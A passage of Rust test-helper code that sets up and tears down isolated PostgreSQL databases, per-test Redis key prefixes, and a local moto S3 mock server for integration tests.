        .fetch_all(&mut admin)
        .await
        .unwrap_or_default();
        for name in leftovers {
            let pid = name.split('_').nth(2).and_then(|p| p.parse::<u32>().ok());
            let alive = pid.is_some_and(|p| std::path::Path::new(&format!("/proc/{p}")).exists());
            if !alive {
                let _ = sqlx::query(&format!("DROP DATABASE IF EXISTS \"{name}\" WITH (FORCE)"))
                    .execute(&mut admin)
                    .await;
            }
        }
        let name = format!(
            "hpti_test_{}_{}",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed)
        );
        if let Err(err) = sqlx::query(&format!("CREATE DATABASE \"{name}\""))
            .execute(&mut admin)
            .await
        {
            panic!("cannot create test database {name}: {err}");
        }
        let _ = admin.close().await;
        let (base, _) = admin_url
            .rsplit_once('/')
            .unwrap_or((admin_url.as_str(), ""));
        let url = format!("{base}/{name}");
        Some(Self {
            url,
            admin_url,
            name,
        })
    }

    /// Drops the database (and any connection still open to it).
    pub async fn remove(self) {
        use sqlx::Connection as _;
        if let Ok(mut admin) = sqlx::PgConnection::connect(&self.admin_url).await {
            let _ = sqlx::query(&format!(
                "DROP DATABASE IF EXISTS \"{}\" WITH (FORCE)",
                self.name
            ))
            .execute(&mut admin)
            .await;
            let _ = admin.close().await;
        }
    }
}

/// A key prefix of its own in the test Redis (`HPTI_REDIS_URL`, default
/// `redis://127.0.0.1:6379`), so that tests running at once never see each other's keys;
/// [`TestRedis::remove`] deletes them.
#[cfg(feature = "redis")]
#[derive(Debug)]
pub struct TestRedis {
    /// The server's URL.
    pub url: String,
    /// The prefix of this test's keys.
    pub prefix: String,
    client: ::redis::Client,
}

#[cfg(feature = "redis")]
impl TestRedis {
    /// A fresh prefix, or `None` (saying so loudly) when no server answers.
    ///
    /// # Panics
    /// When no server answers and `HPTI_REQUIRE_SERVICES=1`.
    pub async fn create() -> Option<Self> {
        use std::sync::atomic::{AtomicU32, Ordering};
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let url =
            std::env::var("HPTI_REDIS_URL").unwrap_or_else(|_| "redis://127.0.0.1:6379".into());
        let ping = async {
            let client = ::redis::Client::open(url.as_str())?;
            let mut connection = client.get_multiplexed_async_connection().await?;
            ::redis::cmd("PING")
                .query_async::<String>(&mut connection)
                .await?;
            Ok::<_, ::redis::RedisError>(client)
        };
        let client = match tokio::time::timeout(std::time::Duration::from_secs(5), ping).await {
            Ok(Ok(client)) => client,
            outcome => {
                let why = match outcome {
                    Ok(Err(err)) => err.to_string(),
                    _ => "no answer in 5 s".into(),
                };
                if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
                    panic!("Redis at {url} is required (HPTI_REQUIRE_SERVICES=1): {why}");
                }
                eprintln!(
                    "\n*** SKIPPED: Redis at {url} is not available ({why}); set HPTI_REDIS_URL ***\n"
                );
                return None;
            }
        };
        let prefix = format!(
            "hpti_test_{}_{}",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed)
        );
        Some(Self {
            url,
            prefix,
            client,
        })
    }

    /// A connection to the server.
    ///
    /// # Panics
    /// When the server no longer answers.
    pub async fn connection(&self) -> ::redis::aio::MultiplexedConnection {
        match self.client.get_multiplexed_async_connection().await {
            Ok(connection) => connection,
            Err(err) => panic!("the test Redis answered a moment ago, now: {err}"),
        }
    }

    /// This test's keys, sorted.
    pub async fn keys(&self) -> Vec<String> {
        let mut connection = self.connection().await;
        let mut keys: Vec<String> = ::redis::cmd("KEYS")
            .arg(format!("{}:*", self.prefix))
            .query_async(&mut connection)
            .await
            .unwrap_or_default();
        keys.sort();
        keys
    }

    /// Deletes this test's keys.
    pub async fn remove(self) {
        let keys = self.keys().await;
        if !keys.is_empty() {
            let mut connection = self.connection().await;
            let _ = ::redis::cmd("DEL")
                .arg(&keys)
                .query_async::<()>(&mut connection)
                .await;
        }
    }
}

/// A real S3-compatible server on loopback for a test: `moto_server` (PyPI
/// `moto[server]`), started on a free port with one bucket, stopped when dropped.
#[cfg(feature = "archive")]
#[derive(Debug)]
pub struct MotoServer {
    /// `http://127.0.0.1:<port>`.
    pub endpoint: String,
    /// The bucket it was started with.
    pub bucket: String,
    child: std::process::Child,
}

#[cfg(feature = "archive")]
impl MotoServer {
    /// Starts the server and creates `bucket`; `None` (saying so loudly) when
    /// `moto_server` is not installed.
    ///
    /// # Panics
    /// When `moto_server` is missing and `HPTI_REQUIRE_SERVICES=1`, or it does not come up.
    pub fn start(bucket: &str) -> Option<Self> {
        use std::io::{Read as _, Write as _};
        if !hpti_core::testing::require_tool("moto_server") {
            return None;
        }
        let port = match std::net::TcpListener::bind("127.0.0.1:0").and_then(|l| l.local_addr()) {
            Ok(addr) => addr.port(),
            Err(err) => panic!("no free port: {err}"),
        };
        let child = match std::process::Command::new("moto_server")
            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
        {
            Ok(child) => child,
            Err(err) => panic!("cannot start moto_server: {err}"),
        };
        let server = Self {
            endpoint: format!("http://127.0.0.1:{port}"),
            bucket: bucket.to_owned(),
            child,
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        loop {
            // Creating the bucket is also the readiness check (moto takes unsigned
            // requests).
            let created = std::net::TcpStream::connect(("127.0.0.1", port)).and_then(|mut s| {
                write!(
                    s,
                    "PUT /{bucket} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )?;
                let mut answer = String::new();
                s.read_to_string(&mut answer)?;
                Ok(answer.starts_with("HTTP/1.1 200") || answer.starts_with("HTTP/1.0 200"))
            });
            if matches!(created, Ok(true)) {
                return Some(server);
            }
            assert!(
                std::time::Instant::now() < deadline,
                "moto_server did not come up on port {port}: {created:?}"
            );
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
    }
}

#[cfg(feature = "archive")]
impl Drop for MotoServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
